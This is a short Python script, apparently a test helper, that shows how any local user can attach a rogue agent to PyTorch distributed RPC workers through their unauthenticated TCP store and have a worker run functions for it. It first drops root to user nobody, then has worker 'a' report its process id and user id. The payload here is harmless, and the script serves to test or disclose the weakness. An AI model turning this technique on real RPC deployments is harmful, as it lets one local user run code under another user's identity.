"""What anybody on this machine can do to RPC workers that they reach: join them, and have one run something.

Started with a folder, it waits for the file `port` there, the port of the workers' store, and leaves in `did` what it
could do to worker "a". As root it becomes the user nobody first.
"""

import os
import sys
from datetime import timedelta
from pathlib import Path

import torch.distributed.rpc as rpc
from torch._C import _distributed_autograd
from torch._C._distributed_c10d import PrefixStore, TCPStore
from torch._C._distributed_rpc import TensorPipeAgent
from torch.distributed.rpc.api import _set_and_start_rpc_agent
from waiting import comes_true


def attack(port: int) -> str:
    try:
        store = TCPStore("127.0.0.1", port, None, False, timedelta(seconds=1))
    except RuntimeError:
        return "cannot reach the store"
    options = rpc.TensorPipeRpcBackendOptions(rpc_timeout=10, _transports=["uv"], _channels=["basic"])
    agent = TensorPipeAgent(PrefixStore("init 1/rpc_prefix_0", store), "stranger", 2, 3, options, {}, [])
    _set_and_start_rpc_agent(agent)
    _distributed_autograd._init(2)
    return f"had process {rpc.rpc_sync('a', os.getpid)} of user {rpc.rpc_sync('a', os.getuid)} at its service"


def main(folder: Path) -> None:
    os.environ["TP_SOCKET_IFNAME"] = "lo"
    assert comes_true((folder / "port").exists), "nobody told a port"
    port = int((folder / "port").read_text())
    folder.chmod(0o777)
    os.chdir(folder)  # As nobody it could not come here: pytest's folders are for their owner.
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
    Path("doing").write_text(f"user {os.getuid()} {attack(port)}")
    Path("doing").rename("did")
    sys.stdin.read(1)  # Its agent stays until the run is over: else a worker complains that it has gone.
    os._exit(0)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
